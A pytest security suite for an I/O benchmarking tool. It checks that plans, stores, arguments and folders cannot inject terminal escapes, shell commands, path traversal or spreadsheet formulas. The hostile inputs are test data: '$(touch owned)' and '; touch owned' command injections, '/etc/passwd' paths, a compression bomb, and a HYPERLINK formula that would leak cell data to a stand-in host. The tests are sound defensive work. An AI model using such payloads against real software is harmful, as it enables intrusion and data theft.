"""Hostile plans, labs, stores and folders: what they must not be able to do."""

import ast
import io
import json
import os
import re
import sqlite3
import zlib
from contextlib import suppress
from functools import cache
from pathlib import Path
from typing import Any
from unicodedata import category

import pytest
from command import ioplan, plan_file, refuse, succeed
from figures import measurement, record
from fio_jobs import NEEDS_FIO
from hypothesis import given, settings
from hypothesis import strategies as st
from paths import ROOT
from pydantic import ValidationError
from run_requests import other
from sessions import session
from terminals import on_a_terminal

from ioplan import PlanError
from ioplan.backends import BackendError
from ioplan.cli import Terminal, plan_of
from ioplan.language import check_file
from ioplan.records import Resolved, RunDetail, RunRequest, Session, new_session_id
from ioplan.results import export
from ioplan.results.report import show_records
from ioplan.results.store import (
    CodecError,
    Store,
    StoreError,
    decode_detail,
    encode_detail,
    make_private,
)
from ioplan.runner import is_signed, signed
from ioplan.runner.guard import create_scratch
from ioplan_fio import Settings, job_file, section_names, settings_of
from targets import needs_root, sparse

SOURCES = [
    path
    for top in ("dsl", "plugins", "examples")
    for path in (ROOT / top).rglob("*.py")
    if "target" not in path.parts and not path.name.startswith("test_")
]
EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[/x][link=https://x]:bomb:\r\nheld: all"
ALLOWED = re.compile(r"\x1b\[[0-9;]*m")
READS = 'plan "{0}"\ntest "{0}" {{ run random 4KiB 100/0 for 1MiB\n vary qd in 1, 2 }}'


STEERING = {"Cc", "Cf", "Cs", "Zl", "Zp"}
"""Unicode's categories of what is not only shown."""


def steers(text):
    """What in an output could steer a terminal, but for rich's colours."""
    bare = ALLOWED.sub("", text)
    return [c for c in bare if c != "\n" and category(c) in STEERING]


# the terminal


class OneSession:
    """A store that somebody passed on: one session, and one run in it."""

    def __init__(self, target="/dev/sim0"):
        self.target = target

    def session(self, key):
        return session(key, target=self.target)

    def detail(self, session_id, seq, with_histograms=True):
        return measurement(1, 1, 20).detail


@pytest.mark.long
@settings(max_examples=60)
@given(
    st.text(min_size=1),
    st.text(),
    st.text(min_size=1),
    st.sampled_from(["ok", "failed"]),
)
@pytest.mark.promise("security.terminal")
def test_no_title_reaches_the_terminal_as_more_than_text(title, said, axis, status):
    out = io.StringIO()
    console = Terminal(file=out, force_terminal=True, width=80, color_system="standard")
    made = record(
        1,
        test=title,
        made=measurement(1, 1, 20),
        cell={axis: said},
        status=status,
        message=said,
        warnings=(said,),
        target={"path": said, "identity": {"model": said}},
    )
    other = made.model_copy(
        update={"seq": 2, "asked": made.asked.model_copy(update={"cell": {axis: "1"}})}
    )
    store = OneSession(said)
    show_records(
        console, store, store.session(made.session), [made, other], tables=True
    )
    assert steers(out.getvalue()) == []


def test_a_title_cannot_forge_a_line_or_markup():
    out = io.StringIO()
    show_records(
        Terminal(file=out, width=80),
        OneSession(),
        session(),
        [record(1, test="a [red]b[/red] [/c]\nheld: expect p99 < 1us", cell={})],
        tables=True,
    )
    first = out.getvalue().splitlines()[0]
    assert first.startswith("a [red]b[/red] [/c]\N{REPLACEMENT CHARACTER}held: expect")


# rich's live display moves the cursor, and hides it meanwhile
MOVES = re.compile(r"\x1b\[(?:\d*[AK]|\?25[lh]|[\d;]*m)|\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A store that somebody passed on, with something evil in all of its texts."""
    folder = tmp_path_factory.mktemp("hostile")
    title = EVIL.replace("\r\n", "")
    plan = plan_file(folder, READS.format(title))
    store = folder / "s.db"
    done = succeed(
        *("run", plan, "--backend", "sim", "--create", "64MiB", "--store", store)
    )
    assert steers(done.out) == []
    with sqlite3.connect(store) as base:
        base.execute("UPDATE session SET target = ?, backend = ?", (EVIL, EVIL))
        texts = "SELECT seq, asked, extras FROM run"
        for seq, asked, extras in base.execute(texts).fetchall():
            values = {
                "message": EVIL,
                "cell": json.dumps({"qd": f"{EVIL}{seq}"}),
                "asked": json.dumps(json.loads(asked) | {"plan": EVIL}),
                "extras": json.dumps(json.loads(extras) | {"warnings": [EVIL]}),
            }
            names = ", ".join(f"{name} = ?" for name in values)
            change = f"UPDATE run SET {names} WHERE seq = ?"
            base.execute(change, (*values.values(), seq))
    base.close()
    return store


@pytest.mark.slow
@pytest.mark.parametrize(
    "words",
    [
        ("ls",),
        ("ls", "--format", "csv"),
        ("show",),
        ("show", "--plan"),
        ("show", "--test", "no such"),
        ("export", "--format", "csv"),
        ("export", "--format", "jsonl"),
        ("check", "plan.ioplan"),
        ("plan", "plan.ioplan"),
        ("plan", "plan.ioplan", "--backend", "fio", "--show-native"),
        ("run", "plan.ioplan", "--backend", "sim", "--create", "64MiB"),
    ],
    ids=" ".join,
)
@pytest.mark.promise("security.terminal")
def test_nothing_steers_a_terminal(hostile, tmp_path, words):
    kept = tmp_path / "s.db" if words[0] == "run" else hostile
    store = () if words[0] in ("check", "plan") else ("--store", kept)
    sent = on_a_terminal(*words, *store, cwd=hostile.parent)
    shown = "owned" in sent or "bomb" in sent  # a list cuts what is long
    assert shown or "exit code 2" in sent or words[0] == "check"
    assert steers(MOVES.sub("", sent)) == []
    assert "Traceback" not in sent and "ioplan itself" not in sent


def test_into_a_file_data_goes_as_it_is(hostile, tmp_path):
    done = ioplan("show", "--plan", "--store", hostile)
    assert done.out == (hostile.parent / "plan.ioplan").read_text()
    assert steers(done.out)


@pytest.mark.slow
@pytest.mark.parametrize("word", ["a\x1b[2J.ioplan", "a\nb", "a\udcff", "\u202egpj"])
@pytest.mark.promise("security.terminal")
def test_an_argument_that_cannot_be_shown_is_refused(word):
    sent = on_a_terminal("check", word, cwd=Path("/"))
    assert "has characters that cannot be shown" in sent and "exit code 2" in sent
    assert steers(MOVES.sub("", sent)) == []


# no shell, and one door to the terminal: told by the text of the program


@cache
def calls(path):
    found = ast.walk(ast.parse(path.read_text()))
    return [(ast.unparse(c.func), c) for c in found if isinstance(c, ast.Call)]


FORBIDDEN = re.compile(
    r"(os\.(system|popen|spawn\w*)|subprocess\.(getoutput|getstatusoutput)|eval|exec"
    r"|(pickle|marshal|shelve)\.\w+|yaml\.\w+|tempfile\.mktemp)"
)


@pytest.mark.long
@pytest.mark.promise("security.no_command")
def test_there_is_no_shell_in_it():
    assert len(SOURCES) > 200
    for path, (name, call) in ((p, found) for p in SOURCES for found in calls(p)):
        assert not FORBIDDEN.fullmatch(name), f"{path}: {name}"
        assert not any(word.arg == "shell" for word in call.keywords), path
        if name in ("subprocess.run", "subprocess.Popen"):
            assert not isinstance(call.args[0], ast.Constant | ast.JoinedStr), path


PRINTS = re.compile(
    r"(?<![\w.])(?:Console\(|print\((?!json\.dumps|json_text\.dumps|f.ioplan \{__version))"
)


def test_only_one_file_opens_the_terminal():
    display = ROOT / "dsl/ioplan/cli/display"
    doors = {display / "output.py", display / "terminal.py"}
    found = [
        f"{path.relative_to(ROOT)}: {line}"
        for path in SOURCES
        if path not in doors and "dsl/ioplan" in str(path)
        for line in path.read_text().splitlines()
        if PRINTS.search(line) and not line.lstrip().startswith("#")
    ]
    assert found == []


# names in plans, labs and stores become no paths and no commands

NAMES = [
    *("../../../../tmp/owned", "/etc/passwd", "-rf", "--output=owned", "global"),
    *("$(touch owned)", "`touch owned`", "; touch owned", "| tee owned", "a/../b"),
    *("%s%n{0}", "x]", "include owned", "${HOME}", "~root"),
]


@NEEDS_FIO
@pytest.mark.slow
@pytest.mark.long
@pytest.mark.promise("security.no_command")
def test_a_run_writes_nothing_but_its_own_files(tmp_path, monkeypatch):
    """With fio, which keeps a job file, in a folder where `owned` would show."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    tests = (
        f'test "{name}" {{ run random 4KiB 100/0 for 1MiB }}\n'
        for name in (one.replace("{0}", "{{0}}") for one in NAMES)
    )
    plan_file(work, f'plan "{NAMES[0]}"\n' + "".join(tests))
    store = tmp_path / "store" / "s.db"
    words = ("run", "plan.ioplan", "--backend", "fio", "--option", "engine=psync")
    succeed(*words, "--target", "t.bin", "--create", "1MiB", "--store", store)
    assert sorted(p.name for p in work.iterdir()) == ["plan.ioplan", "t.bin"]
    assert not Path("/tmp/owned").exists()
    kept = {p for p in store.parent.rglob("*") if p.is_file()}
    (folder,) = (store.parent / "sessions").iterdir()
    beside = {p for p in kept if p.parent == store.parent}
    assert all(p.name.startswith(("s.db", ".s.db", "reserve")) for p in beside), beside
    assert all(p.is_relative_to(folder) for p in kept - beside)
    assert folder.stat().st_mode & 0o777 == 0o700


def job_with(names, target="/data/t.bin"):
    job = record(1).asked.job
    streams = tuple(job.streams[0].model_copy(update={"name": n}) for n in names)
    return job.model_copy(update={"streams": streams, "target": target})


@pytest.mark.long
@given(st.lists(st.text(), min_size=1, max_size=3))
def test_stream_names_stay_within_their_line(names):
    """A job file has a section for each stream, and no line that a name brought."""
    text = job_file(job_with(names), Settings())
    plain = job_file(job_with(["plain"] * len(names)), Settings())
    sections = [f"[{name}]" for name in section_names(job_with(names))]
    lines = text.split("\n")
    assert [one for one in lines if one.startswith("[")] == ["[global]", *sections]
    rest = [one for one in lines if not one.startswith("[")]
    assert rest == [one for one in plain.split("\n") if not one.startswith("[")]


@given(st.text(min_size=1))
def test_a_target_s_name_stays_within_its_line(name):
    """Or is refused: fio would cut it, expand it, or take it for another line."""
    target = f"/data/{name}"
    try:
        text = job_file(job_with(["s"], target), Settings())
    except BackendError:
        return
    (line,) = [one for one in text.split("\n") if one.startswith("filename=")]
    assert line == "filename=" + target.replace(":", "\\:")
    assert len(text.splitlines()) >= len(text.split("\n")) - 1
    assert not set(target) & set("$\\\n\r;#")


@NEEDS_FIO
@pytest.mark.slow
@pytest.mark.parametrize("cut", [";", "#"])
def test_fio_never_writes_to_what_is_left_of_a_name(tmp_path, cut):
    """fio ends a name where a comment begins, and would write to the other file."""
    thesis = tmp_path / "thesis"
    thesis.write_bytes(b"precious" * 4096)
    plan = plan_file(tmp_path, 'test "W" { run random 4KiB 0/100 for 1MiB }')
    words = ("run", plan, "--backend", "fio", "--store", tmp_path / "s.db")
    target = f"{thesis}{cut}old"
    refuse("rename it", *words, "--target", target, "--create", "1MiB")
    assert thesis.read_bytes() == b"precious" * 4096


@pytest.mark.parametrize("path", [5, ["fio"], {"a": 1}, True])
def test_a_program_is_named_by_a_text(path):
    with pytest.raises(BackendError, match="is a program's name"):
        settings_of({"path": path})


def test_a_program_s_name_is_no_command_line(tmp_path):
    plan = plan_file(tmp_path, READS.format("x"))
    words = ("run", plan, "--backend", "fio", "--store", tmp_path / "s.db")
    owned = tmp_path / "owned"
    for name in (f"fio; touch {owned}", f"--output={owned}", f"$(touch {owned})"):
        refuse("cannot be run as fio", *words, "--option", f"path={name}")
    assert not owned.exists()


# `use`


@pytest.mark.parametrize(
    "text",
    [
        *("../secret.ioplan", "/etc/passwd", "sub/../../secret.ioplan", "..", "."),
        *("link.ioplan", "folder/secret.ioplan", "pipe", "null", "~/secret.ioplan"),
        *("./../secret.ioplan", "a\\..\\secret.ioplan", "sub//../../secret.ioplan"),
    ],
)
@pytest.mark.promise("security.use")
def test_use_stays_below_the_plan(tmp_path, text):
    secret = tmp_path / "secret.ioplan"
    secret.write_text("workload hidden = random 4KiB 100/0\n")
    home = tmp_path / "home"
    (home / "sub").mkdir(parents=True)
    (home / "link.ioplan").symlink_to(secret)
    (home / "folder").symlink_to(tmp_path)
    (home / "null").symlink_to("/dev/zero")
    os.mkfifo(home / "pipe")
    plan = plan_file(home, f'use "{text}"\ntest "T" {{ run hidden for 1s }}')
    with pytest.raises(PlanError) as caught:
        check_file(plan)
    (error,) = caught.value.diagnostics
    known = (
        "leaves the plan's folder",
        "there is no file",
        "is a link to a file outside",
    )
    assert any(why in error.message for why in known)


@pytest.mark.promise("security.use")
def test_a_huge_file_is_not_read(tmp_path):
    sparse(tmp_path / "big.ioplan", 1 << 40)
    plan = plan_file(tmp_path, 'use "big.ioplan"\n' + READS.format("x"))
    refuse("is larger than 4 MiB", "check", plan)
    assert "not a regular file" in ioplan("check", "/dev/zero").err


# stores that were passed on


@pytest.mark.promise("security.store")
def test_a_session_s_id_is_no_path():
    names = ("../../etc", "/etc", "a/b", ".", "..", "-rf", "", "a\0b", "a\n", "x" * 65)
    for id in names:
        with pytest.raises(ValueError, match="id"):
            Session(id=id, plan="p", started_at="2026", backend="sim", target="t")
    assert Session(
        id=new_session_id(), plan="p", started_at="2026", backend="sim", target="t"
    )


def changed(hostile, folder, *statements):
    """A copy of the hostile store, and still more so."""
    path = folder / "evil.db"
    with sqlite3.connect(hostile) as before, sqlite3.connect(path) as after:
        before.backup(after)
        for statement in statements:
            after.execute(statement)
    before.close()
    after.close()
    return path


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE session SET id = '../../../tmp/owned'",
        "UPDATE session SET request = '[1, 2'",
        "UPDATE session SET status = 'owned'",
        *(
            f"UPDATE session SET request = '{asked}'"
            for asked in ('{"scale_time": -1}', '{"profile": 3}', '{"x": 1}', "[]")
        ),
        "UPDATE env SET facts = 'x'",
        *(
            f"UPDATE run SET {column} = '{text}'"
            for column in ("extras", "asked", "target", "backend", "cell", "steady")
            for text in ("[]", '{"x": 1}', "[" * 120_000)
            if (column, text) != ("target", '{"x": 1}')
        ),
        "UPDATE run SET kind = 'owned'",
        "UPDATE run SET step = 'x'",
        "UPDATE run SET seq = 9223372036854775807 WHERE seq = 1",
        "UPDATE run SET run_s = 9e999",
        "UPDATE run SET message = x'00'",
        "DELETE FROM figure",
        "DELETE FROM figure WHERE direction = 'total'",
        "UPDATE figure SET direction = 'owned' WHERE direction <> 'total'",
        "UPDATE figure SET iops = 'x'",
        "UPDATE figure SET iops = 9e999",
        "UPDATE figure SET ios = 1.5",
        "UPDATE figure SET stddev_ns = NULL",
        "UPDATE figure SET p99_ns = 'x'",
        f"UPDATE env SET facts = '{'[' * 120_000}'",
        f"UPDATE session SET resolved = '{'[' * 120_000}'",
        *(
            f"INSERT INTO verdict SELECT id, 1, plan_digest, 0, '{text}' FROM session"
            for text in ("{", "7", "[" * 120_000)
        ),
    ],
)
@pytest.mark.promise("security.store")
def test_a_store_that_ioplan_did_not_write_so_is_refused(hostile, tmp_path, statement):
    path = changed(hostile, tmp_path, "PRAGMA foreign_keys = OFF", statement)
    done = ioplan("show", "--store", path)
    assert done.code == 2, done.out
    assert "not as ioplan writes it" in done.err or "no schema version" in done.err
    assert steers(done.err) == []


@pytest.mark.parametrize("path", ["{", "[" * 120_000, '{"a": 1}', "7"])
def test_nor_are_its_states_and_events(hostile, tmp_path, path):
    state = f"INSERT INTO target_state VALUES ('t', '{path}', 'n', '{{}}', 's', 'now')"
    event = f"INSERT INTO event SELECT id, 1, 'now', '{path}', 'text' FROM session"
    with Store.open(changed(hostile, tmp_path, state, event)) as store:
        with pytest.raises(StoreError, match="not as ioplan writes it"):
            store.state("t")
        with pytest.raises(StoreError, match="not as ioplan writes it"):
            store.events(store.session("last").id)


@pytest.mark.slow
def test_a_stored_plan_reads_no_files_of_the_reader_s(hostile, tmp_path):
    """It names a folder and a file there; here one that blocks for ever."""
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "own.ioplan").write_text("workload hidden = random 4KiB 100/0\n")
    evil = 'use "own.ioplan"\\n' + READS.format("x").replace("\n", "\\n")
    for plan_path in (tmp_path / "plan.ioplan", tmp_path / "pipe", "/proc/kmsg"):
        path = changed(
            hostile,
            tmp_path,
            f"UPDATE session SET plan_file = '{plan_path}', plan_text = '{evil}'",
        )
        sent = on_a_terminal("show", "--store", path, cwd=tmp_path)
        assert "exit code 0" in sent, sent
        path.unlink()


def test_a_stored_plan_uses_what_is_stored_with_it(tmp_path):
    library = "workload hidden = random 4KiB 100/0\n"
    text = 'use "own.ioplan"\ntest "T" { run hidden for 1s }\n'
    for name, content in (("own", library), ("plan", text)):
        (tmp_path / f"{name}.ioplan").write_text(content)
    path = tmp_path / "plan.ioplan"
    stored = session(plan_file=str(path), plan_text=text)
    assert plan_of(stored) is None  # nothing of this host is read
    assert plan_of(with_files(stored, {"own.ioplan": library})) is not None
    assert plan_of(with_files(stored, {"own.ioplan": "\0"})) is None
    odd: Any
    for odd in (None, 5, {"own.ioplan": 5}, ["own.ioplan"]):
        with pytest.raises(ValidationError):
            with_files(stored, odd)


def with_files(session, files):
    return session.model_copy(update={"resolved": Resolved(files=files)})


def test_a_trigger_in_a_store_calls_nothing(hostile, tmp_path):
    """SQLite would let a schema call what reads files, where that is built in."""
    with Store.open(changed(hostile, tmp_path)) as store, store.reading() as connection:
        assert connection.rows("PRAGMA trusted_schema") == [{"trusted_schema": 0}]


EMPTY = encode_detail(RunDetail())


@given(st.binary(max_size=200), st.binary(max_size=60))
def test_stored_bytes_are_only_ever_damaged(raw, body):
    packed = b"\x01" + zlib.compress(raw)
    for blob in (raw, packed, b"\x01" + body):
        for part in ("histograms", "series", "telemetry"):
            with suppress(CodecError):
                decode_detail(EMPTY | {part: blob})


def test_a_bomb_is_not_unpacked(monkeypatch):
    monkeypatch.setattr("ioplan.results.store.codec.MAX_BYTES", 1 << 20)
    bomb = b"\x01" + zlib.compress(bytes(64 << 20))
    with pytest.raises(CodecError, match="has more than 1 MiB"):
        decode_detail(EMPTY | {"series": bomb})


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_calculates_nothing(tmp_path, lead):
    evil = lead + 'HYPERLINK("https://x?"&A1)'
    out = io.BytesIO()
    with Store.open(tmp_path / "s.db") as store:
        store.begin(session())
        made = measurement(1)
        store.add(record(1, test=evil, cell={"qd": evil}, made=made), made.detail)
        export(store, session().id, "csv", out)
    assert evil.encode().replace(b'"', b'""') in out.getvalue()
    import csv

    text = io.StringIO(out.getvalue().decode(), newline="")
    cells = [cell for row in csv.reader(text) for cell in row]
    assert f"'{evil}" in cells
    assert not any(cell.startswith(lead) for cell in cells)


# what a session was begun with


@pytest.fixture
def own_key(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return tmp_path / "state" / "ioplan" / "key"


def begun():
    """A session that this user started."""
    asked = RunRequest(overwrite=("/dev/sda",), options=("path=fio",))
    known = Resolved(target_key="block serial=x 1", options={"path": "fio"})
    return signed(session("s1", request=asked, resolved=known, backend="fio"))


def test_a_signature_holds_for_what_was_signed(own_key):
    made = begun()
    assert is_signed(made)
    assert is_signed(Session.model_validate_json(made.model_dump_json()))
    for change in (
        {"id": "s2"},
        {"backend": "spdk"},
        *({"request": made.request.model_copy(update=one)} for one in OTHER_REQUESTS),
        *({"resolved": made.resolved.model_copy(update=one)} for one in OTHER_RESULTS),
    ):
        assert not is_signed(made.model_copy(update=change)), change


OTHER_REQUESTS = [{name: other(RunRequest, name)} for name in RunRequest.model_fields]
OTHER_RESULTS = [{"signature": "x"}] + [
    {name: other(Resolved, name)} for name in Resolved.model_fields
]


@pytest.mark.parametrize("none", ["", "uninitialized\n", None])
def test_a_seal_holds_on_its_own_host(own_key, tmp_path, none, monkeypatch):
    """The key may lie on a network's file system."""
    machine = tmp_path / "machine-id"
    monkeypatch.setattr("ioplan.runner.session.signature.MACHINE_ID", machine)
    machine.write_text("7" * 32)
    made = begun()
    monkeypatch.setattr("platform.node", lambda: "another")
    assert is_signed(made)
    machine.write_text("8" * 32)
    assert not is_signed(made)
    if none is None:
        machine.unlink()
    else:
        machine.write_text(none)
    made = begun()
    assert is_signed(made)
    monkeypatch.setattr("platform.node", lambda: "a third")
    assert not is_signed(made)


def test_a_stranger_s_seal_is_none(own_key):
    made = begun()
    assert own_key.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in own_key.parent.iterdir()] == ["key"]
    own_key.unlink()
    assert not is_signed(made)


# folders of many


def test_a_session_s_folder_is_private(tmp_path):
    folder = tmp_path / "sessions" / "s1"
    make_private(folder)
    make_private(folder)
    assert [p.stat().st_mode & 0o777 for p in (folder, folder.parent)] == [0o700] * 2


@pytest.mark.parametrize("which", ["link", "open", "inner link"])
def test_a_session_s_folder_that_others_made_is_refused(tmp_path, which):
    sessions, elsewhere = tmp_path / "sessions", tmp_path / "elsewhere"
    elsewhere.mkdir()
    if which == "link":
        sessions.symlink_to(elsewhere)
    else:
        sessions.mkdir()
        sessions.chmod(0o777 if which == "open" else 0o700)
    if which == "inner link":
        (sessions / "s1").symlink_to(elsewhere)
    with pytest.raises(PermissionError, match="a folder of your own"):
        make_private(sessions / "s1")
    assert list(elsewhere.iterdir()) == []


@needs_root
def test_a_session_s_folder_of_somebody_else_is_refused(tmp_path):
    (tmp_path / "sessions").mkdir(mode=0o700)
    os.chown(tmp_path / "sessions", 65534, 65534)
    with pytest.raises(PermissionError, match="a folder of your own"):
        make_private(tmp_path / "sessions" / "s1")


@pytest.mark.parametrize("how", ["symlink", "hard link"])
def test_a_scratch_file_goes_through_no_link(tmp_path, how):
    """In a folder of many, somebody may have put a link where it is to be."""
    precious = tmp_path / "precious"
    precious.write_bytes(b"x" * 4096)
    part = tmp_path / ".s.bin.ioplan-part"
    if how == "symlink":
        part.symlink_to(precious)
    else:
        part.hardlink_to(precious)
    with pytest.raises(OSError):
        create_scratch(tmp_path / "s.bin", 8192, lambda _: None)
    assert precious.read_bytes() == b"x" * 4096
